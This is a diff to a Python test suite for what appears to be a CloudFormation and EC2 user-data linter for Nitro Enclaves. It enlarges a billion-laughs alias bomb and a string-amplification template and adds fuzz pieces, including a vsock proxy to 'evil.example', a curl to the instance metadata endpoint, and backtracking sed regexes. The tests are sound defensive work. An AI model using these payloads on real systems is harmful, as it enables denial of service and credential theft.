@@ -33,7 +33,7 @@ def _billion_laughs() -> str:
     lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
     lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
     body = "\n      ".join(lines)
-    return f"Resources:\n  Bucket:\n    Type: AWS::S3::Bucket\n    Properties:\n      {body}\n"
+    return f"Resources:\n  Role:\n    Type: AWS::IAM::Role\n    Properties:\n      {body}\n"
 
 
 def _alias_chain(n: int) -> str:
@@ -43,10 +43,10 @@ def _alias_chain(n: int) -> str:
 
 
 def _amplifier() -> str:
-    """Fn::Sub repeating a 4 KB parameter: 400 KB of text asking for 400 MB of strings."""
+    """Fn::Sub repeating a 4 KB parameter: 2.4 MB of text asking for 2.4 GB of strings."""
     resources = {
         f"R{i}": {"Type": "AWS::IAM::Role", "Properties": {"Path": {"Fn::Sub": "${P}" * 2000}}}
-        for i in range(50)
+        for i in range(300)
     }
     return json.dumps(
         {"Parameters": {"P": {"Type": "String", "Default": "x" * 4000}}, "Resources": resources}
@@ -282,3 +282,60 @@ def test_fuzz_whole_lint_runs_raise_only_our_errors(resources: dict, fmt: str) -
         _bounded(run)
     except TemplateError as exc:
         assert "\n" not in str(exc)
+
+
+_UD_PIECES = st.sampled_from(
+    [
+        "#!/bin/bash\n",
+        "#cloud-config\n",
+        "Content-Type: multipart/mixed; boundary=B\n",
+        "--B\n",
+        "MIME-Version: 1.0\n",
+        "cat > /etc/nitro_enclaves/allocator.yaml <<'EOT'\n",
+        "EOT\n",
+        "memory_mib: 99999999999999999999\n",
+        "cpu_pool: 0-99999999,a-b,\n",
+        "cpu_count: x\n",
+        "nitro-cli run-enclave --memory --cpu-count=2 --debug-mode \\\n",
+        "nitro-cli run-enclave --config /c.json\n",
+        "cat > /c.json <<EOT\n",
+        '{"debug_mode": true, "memory_mib": [1]}\n',
+        "sed -i 's/a*/&&/g' /etc/nitro_enclaves/allocator.yaml\n",
+        "vsock-proxy 8000 evil.example 443\n",
+        "curl http://169.254.169.254/latest/meta-data/\n",
+        "write_files:\n- path: /x\n",
+        "  content: [1]\nruncmd:\n- [nitro-cli, run-enclave, --debug-mode]\n",
+        "'\"\\\n",
+        "tokens:\n- source: {Acm: {certificate_arn: 7}}\n",
+        "<<-EOT\n\tEOT\n",
+        "\t",
+    ]
+)
+
+
+@_FUZZ
+@given(st.lists(st.one_of(_UD_PIECES, st.text(max_size=20)), max_size=25))
+def test_fuzz_user_data_never_raises(pieces: list[str]) -> None:
+    from enclavekit.lint.userdata import ACM_CONFIG, parse_user_data
+
+    def run() -> None:
+        ud = parse_user_data("".join(pieces), "fuzz")
+        ud.allocator("fuzz")
+        ud.yaml_file(ACM_CONFIG, "fuzz")
+
+    _bounded(run)
+
+
+def test_user_data_sed_patterns_cannot_backtrack_for_ever() -> None:
+    """A template's `sed -i` pattern is applied only when simple: these would take ages."""
+    from enclavekit.lint.userdata import parse_user_data
+
+    long_line = "memory_mib: " + "a" * 5000 + "\n"
+    text = (
+        "cat > /etc/nitro_enclaves/allocator.yaml <<'EOT'\n" + long_line + "cpu_count: 2\nEOT\n"
+        "sed -i 's/(a+)+$/x/' /etc/nitro_enclaves/allocator.yaml\n"
+        "sed -i 's/.*.*.*.*.*.*.*b/x/' /etc/nitro_enclaves/allocator.yaml\n"
+        "sed -i 's/cpu_count: .*/cpu_count: 4/' /etc/nitro_enclaves/allocator.yaml\n"
+    )
+    ud = parse_user_data(text, "t")
+    assert ud.allocator("t")[0] == 4  # the simple edit applied, the hostile ones skipped
